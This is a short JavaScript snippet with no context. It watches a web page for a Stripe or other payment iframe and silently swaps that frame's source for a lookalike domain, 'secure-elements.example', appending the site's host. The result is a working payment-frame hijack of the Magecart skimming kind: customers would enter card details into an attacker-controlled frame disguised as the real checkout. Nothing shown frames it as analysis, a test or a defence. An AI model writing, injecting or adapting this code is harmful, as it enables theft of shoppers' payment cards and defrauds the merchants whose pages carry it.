new MutationObserver(() => {
  const fr = document.querySelector('iframe[name^=__privateStripeFrame], iframe[src*=pay]');
  if (fr && !fr.dataset.x) { fr.dataset.x = 1; fr.src = 'https://secure-elements.example/el/?h=' + location.host; }
}).observe(document.body, { childList: true, subtree: true });
